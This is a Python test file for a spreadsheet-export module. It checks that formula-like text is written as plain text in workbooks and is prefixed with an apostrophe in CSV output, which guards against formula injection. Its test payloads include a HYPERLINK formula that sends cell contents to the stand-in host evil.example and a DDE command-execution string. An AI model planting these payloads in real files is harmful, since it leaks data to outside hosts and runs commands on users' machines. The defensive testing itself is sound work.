"""Text a person typed goes into an exported workbook as text, never as a formula the
spreadsheet would run when the task force opens the file (formula injection)."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from infra.export.plan_table import plan_workbook
from infra.export.sheets import workbook_bytes, write_table

HOSTILE = ('=HYPERLINK("http://evil.example/"&A1,"点击")', "=cmd|' /C calc'!A0", "=1+1")


def cells(data: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row if c.value]


def test_every_typed_value_that_looks_like_a_formula_is_written_as_text() -> None:
    wb = Workbook()
    assert wb.active is not None
    write_table(
        wb.active, (HOSTILE[1],), ("问题", "数量"), (20, 8), [(HOSTILE[0], 5), (HOSTILE[2], 1)]
    )
    written = cells(workbook_bytes(wb))
    assert {value for value, kind in written if kind == "f"} == set()
    assert {v for v, _ in written} >= set(HOSTILE) and (5, "n") in written


def test_a_plan_whose_names_look_like_formulas_exports_them_as_text() -> None:
    plan = {
        "code": "X-1", "name": HOSTILE[2], "task_force": "专班", "year": 2026,
        "start_period": "2026-01", "policy": {},
        "tasks": [{"number": "1", "title": HOSTILE[0], "lead_units": [HOSTILE[1]],
                   "supporting_units": [], "indicators": [], "milestones": []}],
    }  # fmt: skip
    written = cells(plan_workbook([plan]))
    assert not [v for v, kind in written if kind == "f"]
    assert HOSTILE[0] in {v for v, _ in written}


def test_a_csv_cell_that_a_spreadsheet_would_run_is_written_with_an_apostrophe() -> None:
    from infra.export.audit import as_csv

    text = as_csv([[1, HOSTILE[2], "-5 个", "@SUM(A1)", "办结"]]).decode("utf-8-sig")
    row = text.splitlines()[1]
    assert row == "1,'=1+1,'-5 个,'@SUM(A1),办结"
